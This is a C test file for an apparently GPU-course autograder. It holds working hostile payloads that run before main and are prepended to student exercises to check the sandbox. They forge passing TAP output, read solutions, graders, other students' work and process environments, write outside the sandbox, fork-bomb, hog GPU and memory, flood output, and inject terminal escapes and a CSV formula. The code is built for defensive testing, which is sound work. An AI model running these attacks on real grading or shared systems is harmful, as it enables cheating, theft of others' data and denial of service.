/* tests/hostile/attack.c - what a hostile student puts in front of an exercise file (before the
 * first CUDA call: a constructor runs before main). tests/hostile/make-class prepends it to the
 * file the student owns, after defining one ATTACK_* and the strings it needs:
 *   TEACHER  the teacher's tree       OTHER  another student's submission folder
 *   RESULTS  another student's results folder   TAP  "ok N name\n" lines for every test
 * Each attack must gain no point, read no teacher file, write nothing outside its sandbox, and
 * cost the students graded beside it nothing (the resource attacks: NPROC, GPU, MEM, DISK,
 * HANG, FLOOD, INJECT, STOP). */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Writes S to file PATH (appending), quietly. */
__attribute__((unused)) static void hostile_write(const char *path, const char *s)
{
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (fd >= 0) {
        if (write(fd, s, strlen(s)) < 0) {
        }
        close(fd);
    }
}

/* Prints the first bytes of file PATH to stdout (into the feedback, if it could be read). */
__attribute__((unused)) static void hostile_show(const char *path)
{
    char buf[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0) {
        buf[n] = 0;
        printf("read %s:\n%s\n", path, buf);
    }
}

#if defined(ATTACK_FORGE)
/* Forged TAP: a detached grandchild keeps every inherited descriptor and, after the real test
 * has printed its verdict, prints "ok" for every test of the exercise to each of them. */
__attribute__((constructor)) static void hostile_forge(void)
{
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int round = 0; round < 2; round++) {
        for (int fd = 1; fd < 64; fd++) {
            if (fcntl(fd, F_GETFD) != -1 && write(fd, TAP, strlen(TAP)) < 0) {
            }
        }
        sleep(1);
    }
    _exit(0);
}
#elif defined(ATTACK_ESCAPE)
/* Out of the box: write into the teacher's tree and another student's results, read the
 * solutions, the graders and another student's work, and every process's command line. */
__attribute__((constructor)) static void hostile_escape(void)
{
    hostile_write(TEACHER "/common/PWNED-escape", "pwned\n");
    hostile_write(TEACHER "/grading/judge/PWNED-escape", "pwned\n");
    hostile_write(RESULTS "/results.json", "{\"pwned\": true}\n");
    hostile_write(OTHER "/PWNED-escape", "pwned\n");
    hostile_show(TEACHER "/" LESSON "/solutions/" EXERCISE "/" OWNED);
    hostile_show(TEACHER "/grading/judge/" LESSON ".bats");
    hostile_show(OTHER "/" LESSON "/exercises/" EXERCISE "/" OWNED);
    hostile_show("../../solutions/" EXERCISE "/" OWNED);
    char self[4096], path[4200];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n > 0) {
        self[n] = 0;
        /* build/exercises/NAME -> the lesson's solutions/ and the tree's tests/, if they are there */
        snprintf(path, sizeof path, "%s/../../../solutions/%s/%s", self, EXERCISE, OWNED);
        hostile_show(path);
        snprintf(path, sizeof path, "%s/../../../../grading/judge/%s.bats", self, LESSON);
        hostile_show(path);
    }
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        hostile_show(path);
        snprintf(path, sizeof path, "/proc/%s/environ", e->d_name);
        hostile_show(path);
        snprintf(path, sizeof path, "/proc/%s/cwd/grading/judge/%s.bats", e->d_name, LESSON);
        hostile_show(path);
    }
    if (d)
        closedir(d);
    fflush(stdout);
}
#elif defined(ATTACK_LINGER)
/* A process that outlives its run: a detached grandchild that sleeps, then writes. */
__attribute__((constructor)) static void hostile_linger(void)
{
    if (fork() != 0)
        return;
    setsid();
    if (fork() != 0)
        _exit(0);
    signal(SIGHUP, SIG_IGN);
    execl("/bin/sh", "sh", "-c", "sleep 20; echo hostile-linger-marker > \"$1\"",
          "hostile-linger-marker", RESULTS "/PWNED-linger", (char *)NULL);
    _exit(0);
}
#elif defined(ATTACK_CLAIM77)
/* Output that claims this machine cannot run it, with the suite's exit status for that. */
__attribute__((constructor)) static void hostile_claim77(void)
{
    fprintf(stderr, "%s: cannot run here: no CUDA device is visible\n", EXERCISE);
    fflush(stderr);
    _exit(77);
}
#elif defined(ATTACK_NPROC)
/* Every process the limit allows, held for 8 s: with one user id for every sandbox, no other
 * student's grading could start a process meanwhile. */
#include <sys/wait.h>
__attribute__((constructor)) static void hostile_nproc(void)
{
    int n = 0;
    while (n < 5000) {
        pid_t p = fork();
        if (p < 0)
            break;
        if (p == 0) {
            sleep(8);
            _exit(0);
        }
        n++;
    }
    printf("held %d processes\n", n);
    fflush(stdout);
    while (wait(NULL) > 0) {
    }
    _exit(1);
}
#elif defined(ATTACK_GPU)
/* Another student's GPU: drop CUDA_VISIBLE_DEVICES and look at the device nodes there are. */
__attribute__((constructor)) static void hostile_gpu(void)
{
    const char *v = getenv("CUDA_VISIBLE_DEVICES");
    printf("gpu-cvd: %s\n", v ? v : "(unset)");
    unsetenv("CUDA_VISIBLE_DEVICES");
    struct dirent **names;
    int n = scandir("/dev", &names, NULL, alphasort);
    printf("gpu-view:");
    for (int i = 0; i < n; i++) {
        if (strncmp(names[i]->d_name, "nvidia", 6) == 0)
            printf(" %s", names[i]->d_name);
        free(names[i]);
    }
    if (n >= 0)
        free(names);
    printf("\n");
    fflush(stdout);
}
#elif defined(ATTACK_GPUHOG)
/* On a GPU machine: drop CUDA_VISIBLE_DEVICES, then take 70% of the memory of every GPU the
 * driver shows and keep them busy for 15 s. */
#include <cuda_runtime_api.h>
#include <time.h>
__attribute__((constructor)) static void hostile_gpuhog(void)
{
    const char *v = getenv("CUDA_VISIBLE_DEVICES");
    printf("gpuhog-cvd: %s\n", v ? v : "(unset)");
    unsetenv("CUDA_VISIBLE_DEVICES");
    int n = 0;
    if (cudaGetDeviceCount(&n) != cudaSuccess)
        n = 0;
    printf("gpuhog-devices: %d\n", n);
    void *p[16] = {0};
    size_t bytes[16] = {0};
    for (int d = 0; d < n && d < 16; d++) {
        size_t free_b = 0, total = 0;
        struct cudaDeviceProp prop;
        if (cudaSetDevice(d) != cudaSuccess || cudaMemGetInfo(&free_b, &total) != cudaSuccess ||
            cudaGetDeviceProperties(&prop, d) != cudaSuccess)
            continue;
        bytes[d] = free_b / 10 * 7;
        if (cudaMalloc(&p[d], bytes[d]) != cudaSuccess)
            p[d] = NULL;
        printf("gpuhog: device %d (pci %x:%x) took %zu MiB\n", d, prop.pciBusID, prop.pciDeviceID,
               p[d] ? bytes[d] >> 20 : (size_t)0);
    }
    fflush(stdout);
    time_t end = time(NULL) + 15;
    while (n > 0 && time(NULL) < end) {
        for (int d = 0; d < n && d < 16; d++) {
            if (p[d] && cudaSetDevice(d) == cudaSuccess &&
                cudaMemsetAsync(p[d], d, bytes[d], 0) == cudaSuccess) {
            }
        }
        for (int d = 0; d < n && d < 16; d++) {
            if (p[d] && cudaSetDevice(d) == cudaSuccess && cudaDeviceSynchronize() == cudaSuccess) {
            }
        }
    }
}
#elif defined(ATTACK_MEM)
/* Memory the host pays for: files in the sandbox's /tmp and /dev/shm (tmpfs), then the heap. */
static long hostile_fill(const char *dir, long max_mib)
{
    /* files of 8 MiB each (under the file size limit): only the tmpfs's own size stops it */
    static char chunk[1 << 20], path[256];
    memset(chunk, 'x', sizeof chunk);
    long mib = 0;
    for (int f = 0; mib < max_mib; f++) {
        snprintf(path, sizeof path, "%s/fill.%d", dir, f);
        int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
        if (fd < 0)
            break;
        int n = 0;
        while (n < 8 && write(fd, chunk, sizeof chunk) == (ssize_t)sizeof chunk)
            n++;
        close(fd);
        mib += n;
        if (n < 8)
            break;
    }
    return mib;
}
__attribute__((constructor)) static void hostile_mem(void)
{
    long t = hostile_fill("/tmp", 2048), s = hostile_fill("/dev/shm", 2048);
    printf("tmp-mib: %ld shm-mib: %ld\n", t, s);
    fflush(stdout);
    for (long mib = 64; mib <= 4096; mib += 64) {
        char *p = malloc(64L << 20);
        if (!p)
            break;
        memset(p, 1, 64L << 20);
        printf("heap-mib: %ld\n", mib);
        fflush(stdout);
    }
    _exit(1);
}
#elif defined(ATTACK_DISK)
/* 300 MiB of initialised data: an object file and a program of that size on the teacher's disk. */
char hostile_big[300 << 20] = {1};
#elif defined(ATTACK_HANG)
/* Every run hangs, asleep (no CPU used): only the time limits end it. */
__attribute__((constructor)) static void hostile_hang(void)
{
    for (;;)
        pause();
}
#elif defined(ATTACK_FLOOD)
/* 8 million lines, whatever happens to the pipe. */
__attribute__((constructor)) static void hostile_flood(void)
{
    static char block[65536];
    signal(SIGPIPE, SIG_IGN);
    for (size_t i = 0; i < sizeof block; i += 2)
        memcpy(block + i, "y\n", 2);
    for (long i = 0; i < 8000000L / 32768; i++) {
        if (write(1, block, sizeof block) < 0) {
        }
    }
    _exit(0);
}
#elif defined(ATTACK_INJECT)
/* Bytes for the teacher's terminal, CSV, JSON and XML: escape sequences, a carriage return,
 * C1 controls, the non-characters U+FFFE and U+FFFF, a bidirectional override. */
__attribute__((constructor)) static void hostile_inject(void)
{
    const char *s = "inject:\033[2J\033]0;pwned\007\r\x01 \xc2\x9b"
                    "31m \xef\xbf\xbe \xef\xbf\xbf "
                    "\xe2\x80\xae =cmd|' /C calc'!A0 </testcase>]]> &amp; \"q\"\n";
    fputs(s, stdout);
    fputs(s, stderr);
    fflush(stdout);
}
#elif defined(ATTACK_STOP)
/* A run that lasts until the class is stopped (or its time limit). */
__attribute__((constructor)) static void hostile_stop(void)
{
    execl("/bin/sh", "hostile-stop-marker", "-c", "sleep 300", (char *)NULL);
    _exit(1);
}
#endif
